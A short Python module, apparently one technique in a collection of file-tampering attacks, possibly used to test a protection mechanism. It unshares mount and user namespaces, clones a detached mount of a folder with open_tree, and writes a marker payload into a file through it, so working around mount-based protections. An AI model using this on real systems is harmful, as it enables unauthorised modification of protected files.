"""A detached mount."""
import os

from attack import AT_FDCWD, CHANGED, syscall

OPEN_TREE, UNSHARE = 428, 272
CLONE, NEW_MOUNTS, NEW_USER = 1, 0x00020000, 0x10000000


def write(path):
    """Who is not root is in a user namespace of its own."""
    folder, name = os.path.split(path)
    syscall(UNSHARE, NEW_MOUNTS | (NEW_USER if os.getuid() else 0))
    tree = syscall(OPEN_TREE, AT_FDCWD, folder.encode(), CLONE)
    os.write(os.open(name, os.O_WRONLY, dir_fd=tree), CHANGED)
